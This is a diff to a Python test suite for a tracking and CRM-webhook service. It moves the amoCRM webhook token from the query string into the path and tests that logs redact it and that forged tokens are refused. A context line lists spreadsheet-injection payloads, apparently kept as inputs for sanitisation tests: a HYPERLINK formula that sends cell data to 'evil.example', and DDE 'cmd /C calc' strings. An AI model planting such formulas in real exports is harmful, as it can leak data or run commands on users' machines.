@@ -35,7 +35,7 @@ UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like 
 CAMPAIGN = SITE + "/sale?utm_source=yandex&utm_medium=cpc&utm_campaign="
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
-AMO_TOKEN = "amo-secret-token-42"
+AMO_TOKEN = "amo-secret-token-0123456789abcdefghij"
 # what only the HTTP layer decides needs one build (the reference one: it is there in every install)
 ONE_BUILD = pytest.mark.parametrize("build", ["reference"])
 STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -214,7 +214,7 @@ def amo_config():
 # (path, limit in bytes, extra headers): every POST route of the service
 POSTS = [("/v1/visit", 16 * 1024, {}), ("/v1/heartbeat", 16 * 1024, {}), ("/v1/intent", 16 * 1024, {}),
          ("/v1/calls", 16 * 1024, AUTH), ("/v1/deals", 1024 * 1024, AUTH),
-         ("/v1/crm/amocrm?token=" + AMO_TOKEN, 256 * 1024, {}), ("/v1/crm/bitrix24", 256 * 1024, {}),
+         ("/v1/crm/amocrm/" + AMO_TOKEN, 256 * 1024, {}), ("/v1/crm/bitrix24", 256 * 1024, {}),
          ("/dashboard/login", 4096, {}), ("/dashboard/logout", 4096, {})]
 
 
@@ -268,16 +268,17 @@ def test_no_api_key_or_webhook_token_reaches_the_logs(wide_open):
                                    protection=None)) as (base, kept):
         assert httpx.get(f"{base}/v1/pools", headers={"Authorization": f"Bearer {KEY}"}).status_code == 200
         assert httpx.get(f"{base}/v1/pools", headers={"X-API-Key": wrong}).status_code == 401
-        amo = httpx.post(f"{base}/v1/crm/amocrm?token={AMO_TOKEN}&x=1", content=b"leads[status][0][id]=1",
+        amo = httpx.post(f"{base}/v1/crm/amocrm/{AMO_TOKEN}?x=1", content=b"leads[status][0][id]=1",
                          headers={"Content-Type": "application/x-www-form-urlencoded"})
         assert amo.status_code in (200, 422)
-        assert httpx.post(f"{base}/v1/crm/amocrm?token=a{AMO_TOKEN}", content=b"").status_code == 401
+        assert httpx.post(f"{base}/v1/crm/amocrm/a{AMO_TOKEN}", content=b"").status_code == 401
+        assert httpx.post(f"{base}/v1/crm/amocrm?token={AMO_TOKEN}", content=b"").status_code == 400
         client = httpx.Client(base_url=base)
         client.post("/dashboard/login", data={"key": KEY, "csrf": _csrf(client.get("/dashboard"))})
         assert any("/v1/crm/amocrm" in line for line in kept.lines)  # the access log was on
     leaked = [line for line in kept.lines if KEY in line or AMO_TOKEN in line]
     assert not leaked
-    assert any("token=" in line and "/v1/crm/amocrm" in line for line in kept.lines)  # redacted, not dropped
+    assert any("/v1/crm/amocrm/[redacted]" in line for line in kept.lines)  # redacted, not dropped
 
 
 # -- X-Forwarded-For and the rate limits -----------------------------------------------------------
@@ -641,9 +642,9 @@ def test_webhooks_refuse_forged_stale_replayed_and_tokenless_requests(wide_open)
         assert [c["call_id"] for c in calls] == ["sig-1"]
 
         form = {"Content-Type": "application/x-www-form-urlencoded"}
-        for query in ("", "?token=", "?token=wrong", f"?token={AMO_TOKEN[:-1]}", f"?token={AMO_TOKEN}x"):
-            r = httpx.post(f"{base}/v1/crm/amocrm{query}", content=b"leads[status][0][id]=1", headers=form)
-            assert r.status_code == 401, query
+        for path in ("", "/wrong", f"/{AMO_TOKEN[:-1]}", f"/{AMO_TOKEN}x", f"/{AMO_TOKEN.upper()}"):
+            r = httpx.post(f"{base}/v1/crm/amocrm{path}", content=b"leads[status][0][id]=1", headers=form)
+            assert r.status_code == 401, path
         for token in ("", "wrong", "b24-app-token-012345678"):
             r = httpx.post(f"{base}/v1/crm/bitrix24", headers=form, content=(
                 f"event=ONCRMDEALUPDATE&data[FIELDS][ID]=7&auth[application_token]={token}").encode())
